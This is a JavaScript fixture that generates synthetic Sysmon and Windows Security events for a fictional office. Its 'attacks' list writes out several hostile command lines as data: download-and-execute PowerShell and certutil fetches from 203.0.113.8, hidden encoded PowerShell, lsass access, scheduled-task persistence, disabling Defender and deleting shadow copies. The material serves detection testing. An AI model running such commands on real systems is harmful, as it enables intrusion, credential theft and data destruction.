/** Sysmon and Security events of a small office, in the flat shape that winlogbeat-like shippers send. */
const SYSTEM = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const people = ['m.rivera', 'j.okafor', 'l.haas', 's.tanaka', 'a.novak', 'p.dubois'];
const machines = ['ws-014', 'ws-021', 'ws-033', 'ws-047', 'fin-02', 'hr-05'];

const sysmon = (id, time, pick, fields) => ({
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Provider_Name: 'Microsoft-Windows-Sysmon',
  EventID: id,
  Computer: `${pick(machines)}.corp.example`,
  UtcTime: time.toISOString().replace('T', ' ').slice(0, 23),
  ...fields,
});

const process = (time, pick, Image, CommandLine, ParentImage = 'C:\\Windows\\explorer.exe', more = {}) =>
  sysmon(1, time, pick, {
    Image,
    OriginalFileName: Image.split('\\').at(-1),
    CommandLine,
    ParentImage,
    ParentCommandLine: ParentImage,
    User: `CORP\\${pick(people)}`,
    IntegrityLevel: 'Medium',
    ProcessId: pick.number(1000, 9999),
    ParentProcessId: pick.number(1000, 9999),
    ...more,
  });

const security = (id, time, pick, fields) => ({
  Channel: 'Security',
  Provider_Name: 'Microsoft-Windows-Security-Auditing',
  EventID: id,
  Computer: 'dc-02.corp.example',
  TimeCreated: time.toISOString(),
  ...fields,
});

export const ordinary = [
  (time, pick) => process(time, pick, 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', '"firefox.exe" -contentproc'),
  (time, pick) => process(time, pick, WORD, `"WINWORD.EXE" /n "C:\\Users\\Documents\\minutes-${pick.number(1, 40)}.docx"`),
  (time, pick) => process(time, pick, `${SYSTEM}svchost.exe`, 'svchost.exe -k netsvcs -p', `${SYSTEM}services.exe`, { User: 'NT AUTHORITY\\SYSTEM' }),
  (time, pick) => process(time, pick, POWERSHELL, 'powershell.exe -File C:\\Scripts\\inventory.ps1', `${SYSTEM}svchost.exe`),
  (time, pick) => sysmon(3, time, pick, { Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', Initiated: 'true', DestinationIp: `198.51.100.${pick.number(1, 250)}`, DestinationPort: 443, Protocol: 'tcp' }),
  (time, pick) => sysmon(22, time, pick, { Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe', QueryName: pick(['intranet.example', 'mail.example', 'updates.example']), QueryStatus: '0' }),
  (time, pick) => security(4624, time, pick, { TargetUserName: pick(people), LogonType: 3, IpAddress: `10.0.3.${pick.number(10, 90)}` }),
  (time, pick) => security(4769, time, pick, { TargetUserName: `${pick(people)}@CORP.EXAMPLE`, ServiceName: 'FILES-01$', TicketEncryptionType: '0x12', Status: '0x0' }),
];

export const attacks = [
  (time, pick) => process(time, pick, `${SYSTEM}cmd.exe`, 'cmd.exe /c start /min C:\\Users\\Public\\a.bat', WORD),
  (time, pick) => process(time, pick, POWERSHELL, 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', `${SYSTEM}cmd.exe`),
  (time, pick) => process(time, pick, POWERSHELL, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a')"),
  (time, pick) => process(time, pick, `${SYSTEM}certutil.exe`, 'certutil -urlcache -split -f http://203.0.113.8/x.exe C:\\Users\\Public\\x.exe', `${SYSTEM}cmd.exe`),
  (time, pick) => process(time, pick, `${SYSTEM}nltest.exe`, 'nltest /domain_trusts /all_trusts', `${SYSTEM}cmd.exe`),
  (time, pick) => sysmon(10, time, pick, { SourceImage: 'C:\\Users\\Public\\m.exe', TargetImage: `${SYSTEM}lsass.exe`, GrantedAccess: '0x1010', SourceUser: `CORP\\${pick(people)}` }),
  (time, pick) => security(4769, time, pick, { TargetUserName: `${pick(people)}@CORP.EXAMPLE`, ServiceName: 'svc-sql', TicketEncryptionType: '0x17', Status: '0x0', IpAddress: '::ffff:10.0.3.21' }),
  (time, pick) => process(time, pick, `${SYSTEM}schtasks.exe`, 'schtasks /create /tn Updater /tr "powershell -w hidden -f C:\\Users\\Public\\u.ps1" /sc onlogon', `${SYSTEM}cmd.exe`),
  (time, pick) => process(time, pick, POWERSHELL, 'powershell Set-MpPreference -DisableRealtimeMonitoring $true', `${SYSTEM}cmd.exe`),
  (time, pick) => process(time, pick, `${SYSTEM}vssadmin.exe`, 'vssadmin.exe Delete Shadows /All /Quiet', `${SYSTEM}cmd.exe`),
];
